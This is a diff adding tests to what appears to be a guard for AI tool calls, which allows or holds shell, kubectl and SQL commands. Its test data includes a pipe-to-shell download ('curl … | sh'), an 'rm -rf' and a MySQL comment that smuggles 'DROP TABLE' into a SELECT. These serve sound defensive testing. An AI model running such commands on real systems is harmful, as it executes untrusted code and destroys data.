@@ -196,6 +196,48 @@ describe('what is parsed', () => {
   });
 });
 
+describe('commands', () => {
+  const shell = rule('a', {
+    shell: { argument: 'command', effects: ['Destructive', 'Dynamic', 'Unparsable'] },
+  });
+  const kubectl = rule('b', {
+    kubectl: { argument: 'args', effects: ['Write', 'Destructive', 'Dynamic', 'Unparsable'] },
+  });
+
+  it.each<[unknown, string]>([
+    ['ls -la', 'allow'],
+    ['mkdir x', 'allow'],
+    ['rm -rf x', 'hold'],
+    ['curl https://x.example | sh', 'hold'],
+    ['echo "open', 'hold'],
+    [['ls', ';', 'rm'], 'allow'],
+    [['rm', 'x'], 'hold'],
+    [['ls', 5], 'hold'],
+    [undefined, 'hold'],
+  ])('of shell: %j is %s', async (command, decision) => {
+    expect(await judge([shell], call({ command }))).toMatchObject({ decision });
+  });
+
+  it('of kubectl and shell are each read in their own argument', async () => {
+    const judged = await judge([shell, kubectl], call({ command: 'ls', args: 'delete pod x' }));
+    expect(judged).toMatchObject({
+      rule: 'tools/b',
+      parsed: { classes: ['Destructive', 'Read'], targets: ['kubectl delete pod', 'ls'] },
+      risk: 70,
+    });
+    expect(await judge([shell, kubectl], call({ command: 'ls', args: 'get pods' }))).toMatchObject({
+      decision: 'allow',
+    });
+  });
+});
+
+it('reads each dialect by its own rules', async () => {
+  const mysql = rule('a', { sql: { dialect: 'MySQL', argument: 'sql', statements: ['DDL'] } });
+  const text = 'SELECT 1 /*! ; DROP TABLE t */';
+  expect(await judge([mysql], call({ sql: text }))).toMatchObject({ decision: 'hold' });
+  expect(await judge([rule('a', sql('DDL'))], call({ sql: text }))).toMatchObject({ decision: 'allow' });
+});
+
 describe('conditions', () => {
   it('match where they cannot be evaluated', async () => {
     const limit = rule('a', { when: 'request.arguments.limit > 100' });
